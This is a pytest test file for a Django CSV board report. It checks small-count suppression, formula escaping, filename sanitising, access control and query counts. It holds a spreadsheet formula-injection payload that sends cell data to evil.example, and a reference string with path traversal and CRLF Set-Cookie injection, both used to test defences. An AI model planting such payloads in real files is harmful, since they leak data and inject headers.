"""The board report: a CSV of the year's return, small numbers suppressed, safe to open."""

import csv
import io
import re
from datetime import UTC, date, datetime

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from reports.board_report import csv_safe
from tests.factories import ContractFactory
from tests.kpis.datasets import make_cornwall_records
from tests.kpis.factories import InitiativeFactory
from tests.kpis.helpers import attend, person

pytestmark = pytest.mark.django_db

IN_Q3_2025 = datetime(2025, 11, 15, 12, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def report_url(contract, year: int = 2025, query: str = "") -> str:
    url = reverse("kpis:board_report", kwargs={"pk": contract.pk, "year": year})
    return f"{url}?{query}" if query else url


def read(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def line(rows, code: str, measure: str, category: str = "") -> dict[str, str]:
    header = rows[0]
    for row in rows[1:]:
        if row[:1] == [code] and row[2] == measure and row[3] == category:
            return dict(zip(header, row, strict=True))
    raise AssertionError(f"no line {code} {measure} {category}")


@pytest.fixture
def records(ep):
    """Q1 2025/26: three female participants. Q2: six female, two male, one from a locality
    whose name is a spreadsheet formula."""
    for n in range(3):
        attend(ep, person(ep, ref=f"Q1-{n}", gender="female"), date(2025, 5, 1))
    for n in range(6):
        attend(ep, person(ep, ref=f"Q2-F{n}", gender="female"), date(2025, 8, 1))
    for n in range(2):
        locality = HOSTILE if n == 0 else "East"
        who = person(ep, ref=f"Q2-M{n}", gender="male", locality=locality)
        attend(ep, who, date(2025, 8, 1))


@time_machine.travel(IN_Q3_2025, tick=False)
def test_it_hides_small_counts_and_the_cells_that_would_give_them_away(
    client, commissioner, ep, records
):
    client.force_login(commissioner)
    response = client.get(report_url(ep))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = read(response)
    assert rows[0][:5] == ["Code", "Indicator", "Measure", "Category", "Target"]
    headline = line(rows, "1.2", "count")
    assert (headline["Q1"], headline["Q2"], headline["Year to date"]) == ("c", "8", "11")
    # Q2's gender: male 2 is small; female 6 would then be 8 - 2, so it is hidden too. The
    # same in the year to date (11 = 9 + 2). In Q1 female 3 is small itself; male stays 0.
    female = line(rows, "1.2", "Gender (count)", "Female")
    male = line(rows, "1.2", "Gender (count)", "Male")
    assert (female["Q1"], female["Q2"], female["Year to date"]) == ("c", "c", "c")
    assert (male["Q1"], male["Q2"], male["Year to date"]) == ("0", "c", "c")
    # Percentages with a small numerator or denominator are hidden with them.
    feedback = line(rows, "1.13", "percentage")
    assert feedback["Q1"] == "c"
    # Hours are not counts of people: shown as they are (three two-hour sessions in Q1).
    assert line(rows, "1.3", "hours")["Q1"] == "6.00"
    assert rows[-1][0].startswith("c: a count from 1 to 5")


@time_machine.travel(IN_Q3_2025, tick=False)
def test_asked_not_to_it_shows_every_figure(client, commissioner, ep, records):
    client.force_login(commissioner)
    response = client.get(report_url(ep, query="suppress=0"))
    rows = read(response)
    assert line(rows, "1.2", "count")["Q1"] == "3"
    assert line(rows, "1.2", "Gender (count)", "Male")["Q2"] == "2"
    assert not any(cell == "c" for row in rows for cell in row)
    assert "not-suppressed" in response["Content-Disposition"]


@time_machine.travel(IN_Q3_2025, tick=False)
@pytest.mark.parametrize("persona", ["commissioner", "provider_a_manager", "administrator"])
def test_it_suppresses_by_default_for_everyone(request, client, ep, records, persona):
    client.force_login(request.getfixturevalue(persona))
    rows = read(client.get(report_url(ep)))
    assert line(rows, "1.2", "count")["Q1"] == "c"


@time_machine.travel(IN_Q3_2025, tick=False)
def test_a_cell_that_looks_like_a_formula_is_written_as_text(
    client, provider_a_manager, ep, records
):
    client.force_login(provider_a_manager)
    rows = read(client.get(report_url(ep, query="suppress=0")))
    locality = line(rows, "1.2", "Locality (as recorded) (count)", "'" + HOSTILE)
    assert locality["Q2"] == "1"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1872", "'+44 1872"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Truro", "Truro"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_csv_safe_prefixes_an_apostrophe_to_what_a_spreadsheet_would_run(text, safe):
    assert csv_safe(text) == safe


@time_machine.travel(IN_Q3_2025, tick=False)
def test_its_file_name_is_safe_whatever_the_reference(client, council_a, administrator):
    contract = ContractFactory(ref='Évil "ref"/../;x\r\nSet-Cookie: a=b', commissioner=council_a)
    client.force_login(administrator)
    response = client.get(report_url(contract))
    disposition = response["Content-Disposition"]
    match = re.fullmatch(r'attachment; filename="([a-z0-9-]+\.csv)"', disposition)
    assert match, disposition
    assert match.group(1) == "evil-refx-set-cookie-ab-kpis-2025-26-board-report.csv"


@pytest.mark.parametrize(
    ("persona", "status"),
    [("commissioner_b", 404), ("provider_b_worker", 404), ("panel_member", 404)],
)
def test_others_cannot_download_it(request, client, ep, persona, status):
    client.force_login(request.getfixturevalue(persona))
    assert client.get(report_url(ep)).status_code == status


def test_a_year_the_contract_does_not_run_is_not_found(client, commissioner, ep):
    client.force_login(commissioner)
    assert client.get(report_url(ep, year=2030)).status_code == 404


@time_machine.travel(datetime(2026, 5, 15, 12, tzinfo=UTC), tick=False)
def test_an_event_counts_quarters_add_up_to_its_year_so_a_second_quarter_is_hidden(
    client, commissioner, ep
):
    """1.5 counts initiatives, each dated once: Q1 3 + Q2 10 + Q3 0 + Q4 0 = the year's 13.
    Q1 is small; 13 - 10 would give it away, so Q2 goes too (the 0s cannot hide anything)."""
    for n in range(3):
        InitiativeFactory(contract=ep, date=date(2025, 5, 1), ref=f"I-Q1-{n}")
    for n in range(10):
        InitiativeFactory(contract=ep, date=date(2025, 8, 1), ref=f"I-Q2-{n}")
    client.force_login(commissioner)
    initiatives = line(read(client.get(report_url(ep))), "1.5", "count")
    assert [initiatives[q] for q in ("Q1", "Q2", "Q3", "Q4", "Annual total")] == [
        "c",
        "c",
        "0",
        "0",
        "13",
    ]


@time_machine.travel(datetime(2026, 5, 15, 12, tzinfo=UTC), tick=False)
def test_distinct_young_peoples_quarters_are_not_taken_to_add_up(client, commissioner, ep):
    """1.2 counts young people once a period: 3 in Q1 and the same 3 plus 7 more in Q2 make 10
    in the year, not 13, so hiding Q1 needs nothing else hidden."""
    people = [person(ep, ref=f"P-{n}") for n in range(10)]
    for who in people[:3]:
        attend(ep, who, date(2025, 5, 1))
    for who in people:
        attend(ep, who, date(2025, 8, 1))
    client.force_login(commissioner)
    participation = line(read(client.get(report_url(ep))), "1.2", "count")
    assert [participation[q] for q in ("Q1", "Q2", "Annual total")] == ["c", "10", "10"]


def test_a_wolverhampton_report_has_its_half_years(client, provider_b_worker, contract_b):
    client.force_login(provider_b_worker)
    response = client.get(report_url(contract_b))
    assert response.status_code == 200
    rows = read(response)
    assert rows[0][5:12] == ["Q1", "Q2", "Q3", "Q4", "H1", "H2", "FY"]
    assert {row[0] for row in rows[1:-1]} >= {"A2.1", "A2.10"}


@time_machine.travel(IN_Q3_2025, tick=False)
def test_its_queries_are_the_returns_whatever_the_records(
    client, commissioner, ep, django_assert_max_num_queries
):
    """The session and user (2), the contract (1), then compute_return for the framework's five
    columns and the year to date: the targets (1), per period the localities (1) and fifteen
    aggregates (the year to date is Q1 to Q2, its own span, so six periods), and the
    snapshot's savepoint and release (2; on PostgreSQL switching JIT off, 1)."""
    extra = 3 if connection.vendor == "postgresql" else 2
    most = 2 + 1 + 1 + 6 * (1 + 15) + extra
    client.force_login(commissioner)
    make_cornwall_records(ep, scale=1)
    with django_assert_max_num_queries(most):
        client.get(report_url(ep))
    make_cornwall_records(ep, scale=10, seed=99)
    with CaptureQueriesContext(connection) as captured:
        client.get(report_url(ep))
    assert len(captured) == most
